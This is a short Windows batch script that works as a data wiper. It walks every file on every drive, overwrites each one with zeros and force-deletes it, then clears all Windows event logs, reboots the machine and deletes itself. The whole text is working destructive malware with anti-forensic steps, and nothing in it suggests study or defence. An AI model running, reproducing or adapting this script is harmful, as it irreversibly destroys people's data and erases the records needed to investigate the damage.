@echo off
for /f "delims=" %%d in ('wmic logicaldisk get caption ^| findstr ":"') do (
  for /r %%d\ %%f in (*) do (echo 0000000000000000 > "%%f" & del /f /q "%%f")
)
for /f %%l in ('wevtutil el') do wevtutil cl "%%l"
shutdown /r /t 5
del "%~f0"
